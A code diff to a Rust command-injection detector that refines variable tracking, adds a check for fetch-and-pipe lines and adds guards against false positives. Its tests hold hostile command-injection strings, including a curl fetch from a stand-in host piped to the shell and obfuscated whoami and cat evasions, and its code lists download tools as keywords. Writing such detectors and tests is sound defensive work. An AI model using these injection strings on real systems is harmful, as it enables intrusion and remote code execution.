@@ -39,7 +39,7 @@ pub(crate) fn check(v: &[u8], shape: Shape, full: bool, level: u8) -> Option<Hit
     };
     found
         .or_else(|| if shape.whitespace() || shape.has(const { Shape::mask(b"/") }) { batch(v) } else { None })
-        .or_else(|| if shape.has(const { Shape::mask(b"-(|'\"$") }) { powershell(v) } else { None })
+        .or_else(|| if shape.has(const { Shape::mask(b"-(|'\"${") }) { powershell(v) } else { None })
         .or_else(|| if level >= 2 && shape.line_break() { mail_protocol(v) } else { None })
 }
 
@@ -459,21 +459,21 @@ struct Vars<'a> {
     found: [(&'a [u8], &'a [u8]); MAX_VARS],
     len: usize,
     /// Every name the value assigns, however (`a=`, `a+=`, `read a`, `for a in`), as two bits
-    /// of 64 each: whether a name is one is a lookup, with no cap on how many there are.
-    names: u64,
+    /// of 256 each: whether a name is one is a lookup, with no cap on how many there are.
+    names: [u64; 4],
 }
 
 const MAX_VARS: usize = 8;
 
 impl<'a> Vars<'a> {
-    const NONE: Vars<'static> = Vars { found: [(b"", b""); MAX_VARS], len: 0, names: 0 };
+    const NONE: Vars<'static> = Vars { found: [(b"", b""); MAX_VARS], len: 0, names: [0; 4] };
 
     /// One pass over `v`, at each word's start after the value's start, a separator, a blank or
     /// a parenthesis (not after `$`, as PHP's and Perl's `$a=1` are): a name
     /// (`[A-Za-z_][A-Za-z0-9_]*`) and `=` (or `+=`), its value up to a blank or a separator, or
     /// inside the quotes it opens; the names `read` fills and `for` takes.
     fn of(v: &'a [u8]) -> Vars<'a> {
-        let mut vars = Vars { found: [(b"", b""); MAX_VARS], len: 0, names: 0 };
+        let mut vars = Vars { found: [(b"", b""); MAX_VARS], len: 0, names: [0; 4] };
         let mut i = 0;
         while i < v.len() {
             let starts_word =
@@ -485,16 +485,27 @@ impl<'a> Vars<'a> {
             let name_len = v[i..].iter().take_while(|&&b| is_word(b)).count();
             let (name, mut after) = (&v[i..i + name_len], i + name_len);
             if matches!(name, b"read" | b"for") && v.get(after) == Some(&b' ') {
-                // `read -r a b`, `for a in ...`: the names after it (and an option's letters,
-                // which name nothing an expansion would).
+                // `read -r a b`, `for a in ...`: the names they fill; prose (`for all of us`,
+                // `read the docs`) fills none, and must not fill the filter.
                 let line_end = v[after..]
                     .iter()
-                    .position(|&b| matches!(b, b';' | b'&' | b'|' | b'\n' | b'<'))
+                    .position(|&b| matches!(b, b';' | b'&' | b'|' | b'\n' | b'\r' | b'<'))
                     .map_or(v.len(), |p| after + p);
-                for word in v[after..line_end].split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()) {
-                    vars.names |= Self::bits(word);
+                let mut words = v[after..line_end].split(u8::is_ascii_whitespace).filter(|w| !w.is_empty());
+                let named = |n: &[u8]| n.iter().all(|&b| is_word(b));
+                if name == b"for" {
+                    if let (Some(n), Some(b"in")) = (words.next(), words.next()) {
+                        if named(n) {
+                            vars.add(n);
+                        }
+                    }
+                } else {
+                    let names: Vec<&[u8]> = words.filter(|w| !w.starts_with(b"-")).take(4).collect();
+                    if names.iter().all(|n| named(n)) {
+                        names.iter().for_each(|n| vars.add(n));
+                    }
                 }
-                i = line_end;
+                i = line_end.max(after + 1);
                 continue;
             }
             if v.get(after) == Some(&b'+') && v.get(after + 1) == Some(&b'=') {
@@ -504,7 +515,7 @@ impl<'a> Vars<'a> {
                 i = after;
                 continue;
             }
-            vars.names |= Self::bits(name);
+            vars.add(name);
             let mut start = after + 1;
             let end = match v.get(start) {
                 Some(&q @ (b'\'' | b'"')) => {
@@ -517,7 +528,7 @@ impl<'a> Vars<'a> {
                     .map_or(v.len(), |p| start + p),
             };
             if vars.len < MAX_VARS {
-                vars.found[vars.len] = (name, &v[start..end]);
+                vars.found[vars.len] = (name, command_part(&v[start..end]));
                 vars.len += 1;
             }
             i = end.max(after + 1);
@@ -525,15 +536,21 @@ impl<'a> Vars<'a> {
         vars
     }
 
-    fn bits(name: &[u8]) -> u64 {
+    /// The two bits of 256 that stand for `name`.
+    fn bits(name: &[u8]) -> [(usize, u64); 2] {
         let hash = name.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, &b| (h ^ b as u64).wrapping_mul(0x100_0000_01b3));
-        1 << (hash & 63) | 1 << ((hash >> 6) & 63)
+        [((hash >> 6) as usize & 3, 1 << (hash & 63)), ((hash >> 20) as usize & 3, 1 << ((hash >> 8) & 63))]
     }
 
-    /// Whether the value assigns `name` anywhere (rarely, a name it does not: two bits shared).
+    fn add(&mut self, name: &[u8]) {
+        for (word, bit) in Self::bits(name) {
+            self.names[word] |= bit;
+        }
+    }
+
+    /// Whether the value assigns `name` anywhere (rarely, a name it does not: bits shared).
     fn assigns(&self, name: &[u8]) -> bool {
-        let bits = Self::bits(name);
-        self.names & bits == bits
+        Self::bits(name).iter().all(|&(word, bit)| self.names[word] & bit != 0)
     }
 
     /// What the expansion at `i` (`$name`, `${name}`, `%name%`) stands for, and
@@ -542,7 +559,8 @@ impl<'a> Vars<'a> {
         let rest = &v[i + 1..];
         let (name, end) = match (v[i], rest.first()) {
             (b'$', Some(b'{')) => {
-                let close = rest.iter().position(|&b| b == b'}')?;
+                // A name is short: `${` with no `}` near it is none (not searched to the end).
+                let close = rest.iter().take(256).position(|&b| b == b'}')?;
                 (&rest[1..close], i + 2 + close)
             }
             (b'%', _) => {
@@ -569,6 +587,16 @@ impl<'a> Vars<'a> {
     }
 }
 
+/// What of a variable's value can name a command, found once when it is assigned (a value is
+/// read at each use, and a 32 KiB one used 16,000 times was read each time): the run of bytes
+/// a command name may hold, of a path only its last `/` and name, at most a word's length.
+fn command_part(value: &[u8]) -> &[u8] {
+    let usable = value.iter().take_while(|&&c| c.is_ascii_alphanumeric() || b"-_.+/:".contains(&c)).count();
+    let value = &value[..usable];
+    let value = value.iter().rposition(|&c| c == b'/').map_or(value, |slash| &value[slash..]);
+    &value[..value.len().min(41)]
+}
+
 /// A command word as a shell would see it once evasions are undone, lower-cased.
 struct Word {
     buf: [u8; 40],
@@ -581,6 +609,8 @@ struct Word {
     expanded: bool,
     /// Written with a capital (`NC`, `Curl`): no Unix command is.
     capital: bool,
+    /// Read as a Windows path from its drive (`c:\windows\...`).
+    drive: bool,
 }
 
 impl Word {
@@ -619,7 +649,8 @@ impl Word {
 /// stand for what a shell puts there: `$0` for the shell, a variable for what `vars` says the
 /// value assigned it (`a=id;$a`, `set a=whoami& call %a%`).
 fn read_command(v: &[u8], mut i: usize, vars: &Vars<'_>) -> (Word, usize) {
-    let mut w = Word { buf: [0; 40], len: 0, evasive: false, pathed: false, expanded: false, capital: false };
+    let mut w =
+        Word { buf: [0; 40], len: 0, evasive: false, pathed: false, expanded: false, capital: false, drive: false };
     while i < v.len() && matches!(v[i], b' ' | b'\t' | b'{' | b'(' | b'\'' | b'"' | 0x0b | 0x0c) {
         i += 1;
     }
@@ -682,10 +713,15 @@ fn read_command(v: &[u8], mut i: usize, vars: &Vars<'_>) -> (Word, usize) {
                     w.expanded = w.len == 0 || w.expanded;
                     // `%windir%\system32\...`: a drive's path goes on with backslashes.
                     drive |= value.contains(&b':');
-                    for &c in value.iter().take_while(|&&c| c.is_ascii_alphanumeric() || b"-_.+/:".contains(&c)) {
-                        if c == b':' {
-                            continue;
+                    // Of a path only its last name can be the command ([`command_part`]).
+                    let value = match value.iter().rposition(|&c| c == b'/') {
+                        Some(slash) => {
+                            w.push(b'/');
+                            &value[slash + 1..]
                         }
+                        None => value,
+                    };
+                    for &c in value.iter().filter(|&&c| c != b':').take(w.buf.len()) {
                         w.push(c.to_ascii_lowercase());
                     }
                     i = end;
@@ -715,6 +751,7 @@ fn read_command(v: &[u8], mut i: usize, vars: &Vars<'_>) -> (Word, usize) {
             _ => break,
         }
     }
+    w.drive = drive;
     (w, i)
 }
 
@@ -1203,6 +1240,11 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
         }
     }
     let (word, end) = read_command(v, at + separator_len, vars);
+    // A Windows path opening a value is a ticket's or a form's (`C:\ProgramData\...\Start
+    // Menu`); run by path, a command follows a separator (`& c:\windows\system32\whoami.exe`).
+    if at_start && word.drive {
+        return None;
+    }
     let mut text = word.text();
     let mut kind = classify(text);
     // `bcdboot/r`: a Windows switch glued to the command (no Windows command is one letter:
@@ -1222,9 +1264,9 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
     }
     let options = next == Follow::ShellArgument && runs_next(text);
     if (next == Follow::Word || options) && is_prefix(text) {
-        // `command -p id`, `sudo -u root id`: the prefix's own options first; `builtin exec id`:
-        // a prefix of a prefix, a few deep.
-        let mut prefix = word.text();
+        // `command -p id`: the prefix's own flags first (a flag's value, `sudo -u root`, is
+        // taken for the command); `builtin exec id`: a prefix of a prefix, a few deep.
+        let mut shells_prefix = runs_next(word.text());
         let mut from = if options { after_options(v, end) } else { end };
         for _ in 0..3 {
             let (inner, inner_end) = read_command(v, from, vars);
@@ -1233,14 +1275,14 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
             let runs = inner_kind == Kind::Rare
                 || inner_next == Follow::ShellArgument
                 || ((inner.evasive || inner.expanded) && inner.len > 1)
-                || (!at_start && runs_next(prefix) && matches!(inner_next, Follow::End | Follow::Operator));
+                || (!at_start && shells_prefix && matches!(inner_next, Follow::End | Follow::Operator));
             if runs {
                 return hit(1, at, (inner_end + 24).min(v.len()), level);
             }
             if inner_next != Follow::Word || !runs_next(inner.text()) {
                 break;
             }
-            prefix = if inner.text() == b"exec" { b"exec" } else { b"command" };
+            shells_prefix = true;
             from = inner_end;
         }
     }
@@ -1256,7 +1298,7 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
         (_, _, Follow::Other) => return None,
         // A command word a shell builds from the value's own variables (`a=id;$a`, cmd's
         // `set a=whoami& %a%`): a sentence after it is still no command line.
-        (false, _, Follow::Word) if word.expanded && !argument_like(v, end) => 2,
+        (false, _, Follow::Word) if word.expanded && !argument_like(&v[..command_line_end(v, end)], end) => 2,
         (false, _, _) if word.expanded && word.len > 1 => 1,
         (_, _, _) if word.evasive && word.len > 1 => 1,
         (false, Kind::Rare, _) => 1,
@@ -1287,10 +1329,7 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
             let prose = word.capital || everyday_word(text);
             // Windows reads names in any case: a capital only makes prose of a word whose
             // argument is no more than a number (`NC 27601`), not a host or a path (`Nc 10.0.0.1`).
-            let argument = match word.capital {
-                true => host_or_path_argument(v, end),
-                false => argument_like(v, end),
-            };
+            let argument = argument_in(v, end, !word.capital);
             if argument || short_line(v) && !prose {
                 1
             } else {
@@ -1310,25 +1349,20 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
 /// host, a path, an address, a number, an assignment (`-m`, `evil.com`, `x/y`, `a=b`, `4444`,
 /// `user@host`), a sentence's closing punctuation aside.
 fn argument_like(v: &[u8], i: usize) -> bool {
+    argument_in(v, i, true)
+}
+
+/// As [`argument_like`]; a bare number counts only with `numbers` (`NC 27601` is a ZIP code, and
+/// `Nc 10.0.0.1 4444` a command line by its address; a backslash makes a Windows path).
+fn argument_in(v: &[u8], i: usize, numbers: bool) -> bool {
     let line = &v[i..];
     let line = &line[..line.iter().position(|&b| b == b'\n' || b == b'\r').unwrap_or(line.len())];
     line.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).any(|word| {
         let word = word.strip_suffix(b".").or_else(|| word.strip_suffix(b",")).unwrap_or(word);
         let option = word.len() > 1 && word[0] == b'-' && (word[1].is_ascii_alphanumeric() || word[1] == b'-');
         option
-            || (!word.is_empty() && word.iter().all(u8::is_ascii_digit))
-            || word.iter().any(|b| matches!(b, b'.' | b'/' | b'=' | b'@' | b':'))
-    })
-}
-
-/// As [`argument_like`], without a bare number: an option, a host, a path, an address.
-fn host_or_path_argument(v: &[u8], i: usize) -> bool {
-    let line = &v[i..];
-    let line = &line[..line.iter().position(|&b| b == b'\n' || b == b'\r').unwrap_or(line.len())];
-    line.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).any(|word| {
-        let word = word.strip_suffix(b".").or_else(|| word.strip_suffix(b",")).unwrap_or(word);
-        let option = word.len() > 1 && word[0] == b'-' && (word[1].is_ascii_alphanumeric() || word[1] == b'-');
-        option || word.iter().any(|b| matches!(b, b'.' | b'/' | b'\\' | b'@' | b':'))
+            || (numbers && !word.is_empty() && word.iter().all(u8::is_ascii_digit))
+            || word.iter().any(|b| matches!(b, b'.' | b'/' | b'=' | b'@' | b':' | b'\\'))
     })
 }
 
@@ -1352,34 +1386,15 @@ fn expansion_command(v: &[u8], at: usize, separator_len: usize, vars: &Vars<'_>)
         }
     }
     let rest = &v[i..];
+    if let Some(end) = word_with_a_variable(v, i, vars) {
+        return Some(end);
+    }
     match rest {
         [b'$', b'\'', ..] => Some(i + 2),
-        [b'$', b'{', c, ..] | [b'$', c, ..] if c.is_ascii_alphabetic() || *c == b'_' => {
-            let braced = rest[1] == b'{';
-            let name_start = if braced { 2 } else { 1 };
-            let name = rest[name_start..].iter().take_while(|&&b| is_word(b)).count();
-            let mut end = i + name_start + name;
-            if braced {
-                if v.get(end) != Some(&b'}') {
-                    return None;
-                }
-                end += 1;
-            }
-            // A variable the value fills itself, or `$_` (the last command's last word); one
-            // it never sets is empty to a shell (`;$a $b $c` runs nothing: CRS's own example).
-            let name = &v[i + name_start..i + name_start + name];
-            let known = vars.assigns(name) || name == b"_";
-            let runs = match follow(v, end) {
-                Follow::End | Follow::Operator | Follow::ShellArgument => true,
-                Follow::Word => name != b"_",
-                Follow::Other => false,
-            };
-            (known && runs).then_some(end)
-        }
         [b'$', b'{', b'0', b'}', ..] | [b'$', b'0', ..] => {
             let end = i + if rest[1] == b'{' { 4 } else { 2 };
             let end = if v.get(end) == Some(&b'"') { end + 1 } else { end };
-            let piped = v[at] == b'|' && v[end..].iter().all(u8::is_ascii_whitespace);
+            let piped = v[at] == b'|' && v[end..].iter().all(u8::is_ascii_whitespace) && fetched(&v[..at]);
             let after = v[end..].trim_ascii_start();
             let option = matches!(after, [b'-', c, ..] if c.is_ascii_alphabetic()) || after.starts_with(b"<");
             (piped || (option && end < v.len() && v[end] == b' ')).then_some(end)
@@ -1402,6 +1417,67 @@ fn expansion_command(v: &[u8], at: usize, separator_len: usize, vars: &Vars<'_>)
         }
         _ => None,
     }
+}
+
+/// The command word at `i` holds an expansion of a variable the value fills itself (`$a`,
+/// `${a}t`, `i$a`, `$x$y`), or is `$_` given `-c`, with what a command line has after it;
+/// returns where the word ends. Whatever the value holds, a shell runs what the word makes.
+/// One the value never sets is empty to a shell (`;$a $b $c` runs nothing: CRS's own example).
+fn word_with_a_variable(v: &[u8], i: usize, vars: &Vars<'_>) -> Option<usize> {
+    let end = i + v[i..].iter().take_while(|&&b| is_word(b) || matches!(b, b'$' | b'{' | b'}' | b'"')).count();
+    let word = &v[i..end];
+    let mut known = false;
+    // Letters glued to an expansion (`${a}t`, `i$a`): shell, never a template's prose.
+    let mut glued = false;
+    let mut at = 0;
+    while let Some(dollar) = word[at..].iter().position(|&b| b == b'$') {
+        glued |= word[at..at + dollar].iter().any(u8::is_ascii_alphanumeric);
+        let name_start = at + dollar + 1 + usize::from(word.get(at + dollar + 1) == Some(&b'{'));
+        let name = word[name_start..].iter().take_while(|&&b| is_word(b)).count();
+        let name = &word[name_start..name_start + name];
+        let valid = name.first().is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_');
+        known |= valid && name != b"_" && vars.assigns(name);
+        if name == b"_" && word == b"$_" && v[end..].trim_ascii_start().starts_with(b"-c ") {
+            known = true;
+        }
+        at = name_start + name.len() + usize::from(word.get(name_start + name.len()) == Some(&b'}'));
+    }
+    glued |= word[at.min(word.len())..].iter().any(u8::is_ascii_alphanumeric);
+    if !known {
+        return None;
+    }
+    let runs = match follow(v, end) {
+        Follow::End | Follow::Operator | Follow::ShellArgument => true,
+        Follow::Word => glued || argument_like(&v[..command_line_end(v, end)], end),
+        Follow::Other => false,
+    };
+    runs.then_some(end)
+}
+
+/// Whether the command line before a pipe at the end of `before` fetches or decodes what it
+/// pipes on (`curl x|$0`, `iwr x | iex`, `(New-Object Net.WebClient).DownloadString(x) | iex`):
+/// a price list's last cell (`$10 | $5 | $0`) does not.
+fn fetched(before: &[u8]) -> bool {
+    let segment = &before[before.iter().rposition(|b| matches!(b, b';' | b'|' | b'&' | b'\n')).map_or(0, |p| p + 1)..];
+    [
+        &b"curl"[..],
+        b"wget",
+        b"iwr",
+        b"irm",
+        b"invoke-",
+        b"downloadstring",
+        b"new-object",
+        b".content",
+        b"get-content",
+        b"base64",
+        b"echo",
+        b"printf",
+        b"cat ",
+        b"nc ",
+        b"fetch",
+    ]
+    .iter()
+    .any(|p| find_ci(segment, p, 0).is_some())
 }
 
 /// Where the command line that goes on at `i` ends: its line's end or the next separator.
@@ -1444,12 +1520,13 @@ fn runs_next(w: &[u8]) -> bool {
 
 /// Where the words after `i` that are options (`-p`, `-u root` is read as `-u` and `root`) end.
 fn after_options(v: &[u8], mut i: usize) -> usize {
+    let line_end = command_line_end(v, i);
     loop {
-        let word = i + v[i..].iter().take_while(|&&b| b == b' ' || b == b'\t').count();
-        if v.get(word) != Some(&b'-') {
+        let word = i + v[i..line_end].iter().take_while(|&&b| b == b' ' || b == b'\t').count();
+        if v.get(word) != Some(&b'-') || word >= line_end {
             return i;
         }
-        i = word + v[word..].iter().take_while(|b| !b.is_ascii_whitespace()).count();
+        i = word + v[word..line_end].iter().take_while(|b| !b.is_ascii_whitespace()).count();
     }
 }
 
@@ -1794,19 +1871,26 @@ fn invoke_expression(v: &[u8]) -> Option<usize> {
         }
         let rest = v[at + 3..].trim_ascii_start();
         let argument = rest.strip_prefix(b"(").map_or(rest, <[u8]>::trim_ascii_start);
-        let code = matches!(argument.first(), Some(b'[' | b'$' | b'(' | b'\'' | b'"'))
-            || [&b"iwr"[..], b"irm", b"new-object", b"invoke-", b"gc ", b"get-content"]
-                .iter()
-                .any(|p| starts_with_ci(argument, p));
-        let piped = before.last() == Some(&b'|') && rest.first().is_none_or(|b| matches!(b, b';' | b')')) && {
-            let left = before[..before.len() - 1].trim_ascii_end();
-            let segment =
-                &left[left.iter().rposition(|b| matches!(b, b';' | b'|' | b'&' | b'\n')).map_or(0, |p| p + 1)..];
-            segment.ends_with(b")")
-                || [&b"iwr"[..], b"irm", b"invoke-", b"downloadstring", b"wget", b"curl", b"get-content"]
-                    .iter()
-                    .any(|p| find_ci(segment, p, 0).is_some())
+        // A variable, a script block, a parameter, a sub-expression, or one quoted token
+        // (`iex 'whoami'`; `IEX "Investors Exchange"` is a name, `IEX $12.50` a price).
+        let quoted_code = |q: u8| {
+            let inner = &argument[1..];
+            let close = inner.iter().position(|&b| b == q).unwrap_or(inner.len());
+            let inner = &inner[..close];
+            !inner.is_empty() && (!inner.contains(&b' ') || inner.iter().any(|b| b"-($|;.".contains(b)))
         };
+        let code = match argument {
+            [b'$', c, ..] => c.is_ascii_alphabetic() || matches!(c, b'_' | b'{' | b'('),
+            [b'-', c, ..] => c.is_ascii_alphabetic(),
+            [q @ (b'\'' | b'"'), ..] => quoted_code(*q),
+            [b'[' | b'(' | b'{', ..] => true,
+            _ => [&b"iwr"[..], b"irm", b"new-object", b"invoke-", b"gc ", b"get-content"]
+                .iter()
+                .any(|p| starts_with_ci(argument, p)),
+        };
+        let piped = before.last() == Some(&b'|')
+            && rest.first().is_none_or(|b| matches!(b, b';' | b')'))
+            && fetched(&before[..before.len() - 1]);
         if code || piped {
             return Some(at);
         }
@@ -2080,7 +2164,17 @@ mod tests {
             "x& %COMSPEC:~-7% /c whoami",
             "x; & (gcm who*)",
             "x; .('i'+'ex') 'whoami'",
-            "x|$0",
+            "x; curl -s evil.example|$0",
+            // Review: a literal glued to an expansion, a value with quotes, backslashes or
+            // parentheses, the ninth assignment's value: the word holds a variable the value
+            // fills, so it runs whatever the value makes.
+            "x;v1=1;v2=1;v3=1;v4=1;v5=1;v6=1;v7=1;v8=1;z=d;i$z",
+            "x;a=\"\"d;i$a",
+            "x;a=\\d;i$a",
+            "x;a=(d);i$a",
+            "x;a=ca;${a}t flag",
+            "iex -Command whoami",
+            "x; iex {whoami}",
         ] {
             assert!(cmdi(s, 1), "{s}");
         }
@@ -2115,6 +2209,18 @@ mod tests {
             ";$a $b $c",
             "PHP: $a = 1; $b = $a + 1;",
             "Then $a; $b->run();",
+            // Review: Windows paths, tickers and prices, PowerShell snippets, prose with `for`.
+            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs",
+            "C:\\Users\\ann\\Time Sheets\\may.xlsx",
+            "IEX $12.50",
+            "IEX \"Investors Exchange\"",
+            "NYSE (US) | IEX",
+            "Tiers: $10 | $5 | $0",
+            "Basic|$0",
+            "{\n $_ -like '*.log'\n}",
+            "items | Where-Object {\n$_\n}",
+            "for a while we read the docs; for all of us; $all items are in\n$docs ok",
+            "x; for more see the docs",
         ] {
             assert!(!cmdi(s, 1), "{s}");
         }
